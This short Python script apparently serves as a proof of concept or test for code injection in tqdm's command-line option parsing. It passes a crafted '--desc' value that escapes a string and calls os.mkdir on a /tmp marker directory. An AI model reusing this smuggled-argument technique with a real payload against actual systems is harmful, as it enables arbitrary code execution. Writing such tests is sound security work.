import contextlib
import io
import sys

from tqdm.cli import main

sys.stdin = io.TextIOWrapper(io.BytesIO(b"line\n"))
value = '" + str(__import__("os").mkdir("/tmp/made-by-option")) + "'
with contextlib.suppress(Exception):
    main(fp=io.StringIO(), argv=["--desc=" + value])
